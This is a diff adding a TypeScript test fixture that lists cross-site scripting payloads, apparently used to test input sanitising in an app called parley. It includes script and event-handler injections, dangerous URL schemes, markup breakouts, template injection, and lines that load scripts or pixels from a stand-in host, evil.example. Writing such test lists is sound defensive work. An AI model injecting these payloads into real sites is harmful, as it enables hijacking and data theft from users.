@@ -1,0 +1,68 @@
+// Cross-site scripting as it is tried: each would set `hacked` or ask the network if it were more than text.
+const act = 'hacked=1';
+
+const elements = ['script', 'img src=x onerror', 'svg onload', 'body onload', 'iframe onload', 'video onerror'];
+const handlers = ['onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'ontoggle', 'onanimationstart'];
+const schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  'java\nscript:',
+  ' javascript:',
+  '\u0001javascript:',
+  'javascript&colon;',
+  'data:text/html,',
+  'data:text/html;base64,',
+  'vbscript:',
+  'file:///etc/passwd#',
+  'blob:https://parley.example/',
+  'filesystem:',
+  'about:blank#',
+  'chrome://settings/',
+  'view-source:',
+  'app://parley/',
+  'ms-msdt:/id',
+];
+const breakouts = ['"', "'", '`', '">', "'>", '</textarea>', '</title>', '</style>', '-->', ']]>', '*/'];
+
+export const hostileStrings: readonly string[] = [
+  `<script>${act}</script>`,
+  `<ScRiPt>${act}</sCrIpT>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<script type=module>import('https://evil.example/x.js')</script>`,
+  ...elements.map((element) => `<${element}=${act}>`),
+  ...handlers.map((handler) => `<details open ${handler}=${act} tabindex=1 autofocus>x</details>`),
+  ...schemes.map((scheme) => `<a href="${scheme}${act}">x</a>`),
+  ...schemes.map((scheme) => `${scheme}${act}`),
+  ...breakouts.map((breakout) => `${breakout}<img src=x onerror=${act}>`),
+  ...breakouts.map((breakout) => `${breakout} onfocus=${act} autofocus x=${breakout}`),
+  '<img src=https://evil.example/pixel.png>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>@import "https://evil.example/x.css"</style>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<base href=https://evil.example/>',
+  '<form action=https://evil.example/><input type=submit></form>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '<object data=https://evil.example/x.swf></object>',
+  '<embed src=https://evil.example/x.svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>',
+  '<svg><animate onbegin=hacked=1 attributeName=x dur=1s>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked=1>#x"/></svg>',
+  '<template><script>hacked=1</script></template>',
+  '{{constructor.constructor("hacked=1")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
+  '${hacked=1}',
+  '&lt;script&gt;hacked=1&lt;/script&gt;',
+  '%3Cscript%3Ehacked=1%3C/script%3E',
+  '\u202e<script>hacked=1</script>',
+  '\u0000<script>hacked=1</script>',
+  '[x](javascript:hacked=1)',
+  '![x](https://evil.example/pixel.png)',
+  '<javascript:hacked=1>',
+  '/<script>hacked=1</script>/',
+  '<x onclick=hacked=1>x',
+  'mailto:a@b.example?body=<script>hacked=1</script>',
+  'parley://evil.example/?invite=<img src=x onerror=hacked=1>',
+  'https://user:secret@evil.example/',
+  'https://evil.example/"onmouseover="hacked=1',
+];
